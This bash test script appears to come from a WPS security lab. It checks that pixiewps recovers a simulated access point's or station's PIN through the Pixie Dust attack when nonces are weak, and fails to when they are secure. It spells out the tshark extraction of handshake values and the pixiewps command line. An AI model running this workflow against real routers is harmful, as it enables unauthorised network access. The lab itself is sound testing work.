#!/usr/bin/env bash
# The Pixie Dust lab: pixiewps (Debian package, tools/install-deps.sh) recovers the PIN offline
# from what the attacker has after M3 — PKE (M1), PKR (M2), E-Hash1/E-Hash2 (M3) and the
# Enrollee Nonce from the sniffer log, AuthKey from the registrar's key log — when the enrollee
# drew E-S1/E-S2 weakly (--enrollee-nonces zero: the Ralink/MediaTek class, pixiewps mode 1;
# prng: the Realtek RTL819x class, time-seeded glibc random(), mode 3), and finds nothing with
# the default (secure) generator. For ap-pin the enrollee is the AP (its AP PIN is found); for
# sta-pin the station.
set -euo pipefail
WPSLAB=$(readlink -f "$1")
command -v tshark >/dev/null || { echo "FAIL: tshark is not installed (tools/install-deps.sh)"; exit 1; }
command -v pixiewps >/dev/null || { echo "FAIL: pixiewps is not installed (tools/install-deps.sh)"; exit 1; }
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
cd "$work"
fail() { echo "FAIL: $*"; exit 1; }

pixie() {  # scenario profile -> pixiewps output
  local s=$1 p=$2
  "$WPSLAB" run "$s" --enrollee-nonces "$p" --pin 11867722 --keylog k.log --pcap p.pcap --diagram none >/dev/null
  f() { tshark -r p.pcap -Y "$1" -T fields -e "$2" 2>/dev/null | head -1 | tr -d ':'; }
  local pke pkr eh1 eh2 en ak
  pke=$(f 'wps.message_type == 0x04' wps.public_key)
  pkr=$(f 'wps.message_type == 0x05' wps.public_key)
  eh1=$(f 'wps.message_type == 0x07' wps.e_hash1)
  eh2=$(f 'wps.message_type == 0x07' wps.e_hash2)
  en=$(f 'wps.message_type == 0x04' wps.enrollee_nonce)
  ak=$(awk '$1 == "AUTHKEY" {print $3; exit}' k.log)
  [ ${#pke} -eq 384 ] && [ ${#pkr} -eq 384 ] && [ ${#eh1} -eq 64 ] && [ ${#en} -eq 32 ] && [ ${#ak} -eq 64 ] \
    || fail "$s $p: could not extract the values"
  # mode 3 searches seeds (Unix seconds) in this window: the simulated AP's clock is 2024-01-01.
  timeout 120 pixiewps -e "$pke" -r "$pkr" -s "$eh1" -z "$eh2" -a "$ak" -n "$en" \
    --start 12/2023 --end 02/2024 2>&1 || true
}
# wpslab analyze with the same key log must reach pixiewps's verdict: the weak class and the PIN,
# or no weakness with the secure generator.
analyzer() {  # scenario profile want-class (zero|enrollee-nonce|none)
  "$WPSLAB" analyze p.pcap --keylog k.log --format json > a.json || fail "$1 $2: analyze failed"
  python3 - "$3" <<'PY' || fail "$1 $2: analyzer verdict: $(cat a.json | head -c 600)"
import json, sys
want = sys.argv[1]
px = [p for s in json.load(open("a.json"))["sessions"] for p in s["pixie"]]
assert len(px) == 1, px
if want == "none":
    assert px[0]["weak_nonces"] is None and px[0]["pin"] is None, px
else:
    assert px[0]["weak_nonces"] == want and px[0]["pin"] == "11867722", px
PY
}
for s in ap-pin sta-pin; do
  for p in zero prng; do
    out=$(pixie $s $p)
    echo "$out" | grep -Eq '\[\+\] WPS pin: +11867722$' || fail "$s --enrollee-nonces $p: pixiewps did not find the PIN: $out"
    analyzer $s $p "$([ $p = zero ] && echo zero || echo enrollee-nonce)"
  done
  out=$(pixie $s secure)
  analyzer $s secure none
  echo "$out" | grep -q 'WPS pin not found' || fail "$s secure: pixiewps found something: $out"
  echo "$out" | grep -q '\[+\] WPS pin:' && fail "$s secure: $out"
done
echo "pixie_dust: all checks passed"
